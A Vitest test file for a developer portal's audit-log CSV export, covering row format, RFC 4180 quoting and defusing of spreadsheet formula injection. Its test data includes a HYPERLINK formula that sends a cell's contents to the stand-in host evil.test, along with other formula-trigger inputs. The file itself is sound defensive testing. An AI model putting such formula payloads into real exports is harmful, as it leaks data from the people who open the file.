import type { AuditEvent } from '@devportal/portal-domain';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { AUDIT_CSV_COLUMNS, auditCsv } from '../../src/audit/audit-csv.js';

function event(overrides: Partial<AuditEvent> = {}): AuditEvent {
  return {
    id: 'e1',
    organisationId: 'org-1',
    at: '2026-12-01T10:00:00.000Z',
    actorUserId: 'user-1',
    actorEmail: 'irina@partner.test',
    actorName: 'Irina Petrova',
    actorRole: 'Owner',
    action: 'application.created',
    target: { type: 'application', id: 'app-1' },
    sourceIp: '203.0.113.7',
    details: { name: 'Fleet cards', clientId: 'c-1' },
    ...overrides,
  };
}

/** The cells of the CSV's data rows, read back by a CSV parser. */
function cellsOf(csv: string): string[][] {
  const parsed = Papa.parse<string[]>(csv.trimEnd(), { header: false });
  expect(parsed.errors).toEqual([]);
  return parsed.data.slice(1);
}

describe('the audit log as CSV', () => {
  it('has a header row and one CRLF-ended row per event, every column filled from the event', () => {
    // Act
    const csv = auditCsv([event()]);

    // Assess
    expect(csv).toBe(
      `${AUDIT_CSV_COLUMNS.join(',')}\r\n` +
        '2026-12-01T10:00:00.000Z,irina@partner.test,Irina Petrova,user-1,Owner,' +
        'application.created,application,app-1,Fleet cards,203.0.113.7,name=Fleet cards; clientId=c-1\r\n',
    );
  });

  it('quotes cells with a comma, a quote or a line break and doubles the quotes (RFC 4180)', () => {
    // Act
    const csv = auditCsv([event({ details: { name: 'Say "hi", then\r\nleave' } })]);

    // Assess
    expect(csv).toContain('"Say ""hi"", then\r\nleave"');
    expect(cellsOf(csv)[0]?.[8]).toBe('Say "hi", then\r\nleave');
  });

  it.each([
    ['=HYPERLINK("http://evil.test/?x="&A1,"Click")'],
    ['+1+1'],
    ['-2+3'],
    ['@SUM(A1:A9)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['=1+1\nsecond line'],
  ])('makes %j inert with a leading apostrophe', (hostile) => {
    // Act
    const csv = auditCsv([event({ details: { name: hostile } })]);

    // Assess
    const label = cellsOf(csv)[0]?.[8];
    expect(label).toBe(`'${hostile}`);
  });

  it('leaves cells that merely contain a formula character alone', () => {
    const csv = auditCsv([event({ details: { name: 'A=B, C-D @home' } })]);

    expect(cellsOf(csv)[0]?.[8]).toBe('A=B, C-D @home');
  });
});
